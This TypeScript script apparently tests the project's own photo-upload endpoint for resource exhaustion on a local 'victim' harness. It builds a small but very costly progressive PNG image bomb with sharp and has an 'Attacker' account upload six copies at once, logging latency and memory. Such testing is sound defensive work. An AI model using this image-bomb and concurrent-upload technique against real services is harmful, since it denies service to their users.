import sharp from 'sharp';
import { registerOverHttp } from '../../tests/support/http-member.ts';
import { readBeside, tally, withVictim } from './victim.ts';

/** Six uploads at once of a picture with as many pixels as are allowed, while a visitor loads a page. */
const SIDE = 6300;

// Noise that repeats itself, so that it is small as a file and hard work as a picture; interlaced, so that it is decoded as a whole.
const tile = await sharp({
  create: {
    width: 60,
    height: SIDE,
    channels: 3,
    background: '#888',
    noise: { type: 'gaussian', mean: 150, sigma: 40 },
  },
})
  .png()
  .toBuffer();
const bomb = await sharp({ create: { width: SIDE, height: SIDE, channels: 3, background: '#a6114e' } })
  .composite([{ input: tile, tile: true }])
  .png({ progressive: true })
  .toBuffer();
console.log(`${bomb.length} bytes`);

await withVictim(async (victim) => {
  const attacker = await registerOverHttp(victim.url, 'Attacker');
  const send = async () => {
    const form = new FormData();
    form.set('photo', new Blob([new Uint8Array(bomb)], { type: 'image/png' }), 'photo.png');
    return (await attacker.call('POST', '/api/memories/photos', form)).status;
  };
  const startedAt = performance.now();
  const uploads = Promise.all(Array.from({ length: 6 }, send));
  const honest = await readBeside(victim, uploads);
  const elapsed = Math.round(performance.now() - startedAt);
  console.log(`six pictures of ${SIDE}²: ${tally(await uploads)} in ${elapsed} ms`);
  console.log(`  ${honest}; memory at most ${victim.peakMemory()} MB`);
});
